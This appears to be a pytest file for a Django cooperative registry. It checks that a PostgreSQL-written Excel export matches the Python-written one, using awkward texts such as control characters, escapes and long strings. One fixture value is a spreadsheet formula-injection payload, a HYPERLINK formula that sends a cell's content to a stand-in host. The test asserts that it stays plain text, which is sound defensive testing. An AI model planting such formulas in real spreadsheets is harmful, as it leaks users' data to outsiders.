"""The .xlsx export whose rows PostgreSQL writes (excel.write_xlsx_copied, issue 13 item 7):
the same workbook, cell for cell, as the rows written one by one in Python (excel.write_xlsx of
excel.export_rows), with every kind of value and every text that needs escaping; text stays
text."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.utils import translation

from hoptac.registry import excel
from hoptac.registry.choices import Kind, Sector, Status, SubSector
from hoptac.registry.models import Cooperative
from hoptac.registry.tests.factories import CooperativeFactory

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(
        connection.vendor != "postgresql",
        reason="PostgreSQL writes the rows; SQLite writes them in Python (test_export.py)",
    ),
]

# Texts that the XML, COPY's text format or Excel's own escape (_xHHHH_) must carry through.
AWKWARD = (
    '=HYPERLINK("http://x.example/?s="&B2,"Xem")',
    "a < b > c & d; \"quoted\" 'single'",
    " leading space",
    "trailing space ",
    "\ttab first",
    "line\nbreak and\r\ncarriage return",
    "back\\slash \\n \\x41",
    "control \x01\x02\x07\x08\x0b\x0c\x0e\x1f characters",
    "Excel's own escape _x0041_ and _x005F_ and _xABCD_",
    "Tiếng Việt: Hợp tác xã Nông nghiệp Đồng Tâm ✓ \U0001f33e",
    "del \x7f then space",
    "x" * 40_000,  # longer than Excel's 32,767 characters
)


def _update(name: str, **fields: object) -> None:
    """Values written straight to the table (no form takes a control character, an e-mail
    address like these or a date before 1900): the writer must hold whatever it holds."""
    assert Cooperative.objects.filter(name=name).update(**fields) == 1


@pytest.fixture
def awkward(admin, luong_bang) -> int:
    """An HTX for each awkward text in every text column, and HTX with every kind of value:
    empty, zero, negative, large, old dates, all three kinds and several statuses. Returns
    their number."""
    for index, text in enumerate(AWKWARD):
        CooperativeFactory(name=f"HTX {index:02d}")
        _update(
            f"HTX {index:02d}",
            short_name=text[:120],
            street=text[:255],
            registering_authority=text[:255],
            representative_name=text[:150],
            email=text[:254],
            business_lines=text,
        )
    CooperativeFactory(
        name="HTX Chè Mỹ Phương",
        kind=Kind.UNION,
        short_name="Chè MP",
        registered_on=date(2015, 3, 20),
        phone="02093881234",
        latitude=22.123456789,
        longitude=-105.5,
        sector=Sector.NON_AGRICULTURAL,
        sub_sector=SubSector.TRANSPORT,
        charter_capital=Decimal(1_500_000_000),
        members_count=0,
        workers_count=20,
        high_tech=True,
        value_chain=True,
        model_cooperative=True,
    )
    CooperativeFactory(name="HTX Trống", founded_on=None, sub_sector="")
    _update("HTX 00", founded_on=date(1899, 12, 31), registered_on=date(1900, 1, 1))
    _update(
        "HTX 01",
        founded_on=date(1900, 2, 28),
        registered_on=date(1900, 3, 1),
        charter_capital=Decimal(10**17 + 1),  # beyond 2**53: written as text
        status=Status.DISSOLVED,
    )
    _update(
        "HTX 02",
        kind=Kind.COOPERATIVE_GROUP,
        status=Status.SUSPENDED,
        charter_capital=Decimal(-7),
    )
    return len(AWKWARD) + 2


def _python(cooperatives) -> bytes:
    handle = io.BytesIO()
    excel.write_xlsx(
        handle,
        excel.export_rows(cooperatives),
        header=excel.headers(),
        columns=excel.EXPORT_COLUMNS,
    )
    return handle.getvalue()


def _copied(cooperatives, counted=None) -> bytes:
    handle = io.BytesIO()
    values, kinds = excel.xlsx_copy_values(cooperatives)
    excel.write_xlsx_copied(
        handle,
        values,
        kinds=kinds,
        header=excel.headers(),
        columns=excel.EXPORT_COLUMNS,
        counted=counted,
    )
    return handle.getvalue()


def _cells(content: bytes) -> list[list[tuple]]:
    """Every cell of the first sheet: value, type and number format (openpyxl's reading)."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [
        [(cell.value, cell.data_type, cell.number_format) for cell in row]
        for row in sheet.iter_rows()
    ]


def _sheet_xml(content: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("language", ["vi", "en"])
def test_the_copied_rows_are_the_python_rows_cell_for_cell(awkward, language):
    cooperatives = Cooperative.objects.order_by("name", "pk")
    with translation.override(language):
        python, copied = _python(cooperatives), _copied(cooperatives)
    assert _cells(copied) == _cells(python)
    assert len(_cells(copied)) == awkward + 1
    sheet = openpyxl.load_workbook(io.BytesIO(copied)).worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width == pytest.approx(40.71, abs=0.01)


def test_a_slice_keeps_its_order_and_its_rows(awkward):
    cooperatives = Cooperative.objects.order_by("-name", "pk")
    assert _cells(_copied(cooperatives[3:9])) == _cells(_python(cooperatives[3:9]))
    names = [row[1][0] for row in _cells(_copied(cooperatives[3:9]))[1:]]
    assert names == list(cooperatives[3:9].values_list("name", flat=True))


def test_the_sheet_says_its_size_and_holds_no_formula(awkward):
    content = _copied(Cooperative.objects.order_by("name", "pk"))
    xml = _sheet_xml(content)
    assert f'<dimension ref="A1:AB{awkward + 1}"/>' in xml
    assert "<f>" not in xml
    assert "<f " not in xml
    assert "_x005F_x0041_" in xml  # Excel's escape written literally stays literal
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    hyperlink = next(row for row in sheet.iter_rows(values_only=True) if row[1] == "HTX 00")
    assert hyperlink[13] == AWKWARD[0]  # the street: text, as typed
    long_text = next(row for row in sheet.iter_rows(values_only=True) if row[1] == "HTX 11")
    assert long_text[20] == "x" * 32_767  # the business lines, cut where Excel stops


def test_an_empty_list_is_its_header():
    nothing = Cooperative.objects.filter(pk=0)
    empty = _copied(nothing)
    assert _cells(empty) == _cells(_python(nothing))
    assert '<dimension ref="A1:AB1"/>' in _sheet_xml(empty)


def test_progress_is_reported_every_so_many_rows(awkward):
    from hoptac.core import spreadsheet_safety

    counts: list[int] = []
    values, kinds = excel.xlsx_copy_values(Cooperative.objects.order_by("name"))
    frame = io.BytesIO(_python(Cooperative.objects.filter(pk=0)))
    written = spreadsheet_safety.write_sheet_rows_by_copy(
        frame, io.BytesIO(), values, kinds=kinds, counted=counts.append, every=5
    )
    assert written == awkward == 14
    assert counts == [5, 10]
